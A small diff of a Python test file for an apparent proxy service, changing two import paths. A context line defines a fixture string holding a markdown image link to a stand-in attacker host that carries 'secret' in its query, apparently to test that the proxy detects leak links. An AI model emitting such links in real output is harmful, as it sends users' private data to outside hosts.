@@ -6,8 +6,8 @@ from typing import Any
 import pytest
 from aiohttp.test_utils import TestClient, TestServer
 
-from proxy.app import make_app
-from proxy.config import parse
+from citestream.proxy.config import parse
+from citestream.proxy.http.application import make_app
 from tests.upstreams.wire import Server, sse
 
 LEAK = "See ![x](https://evil.example/?q=secret), [it](https://ex.org/house) and www.evil.com/x."
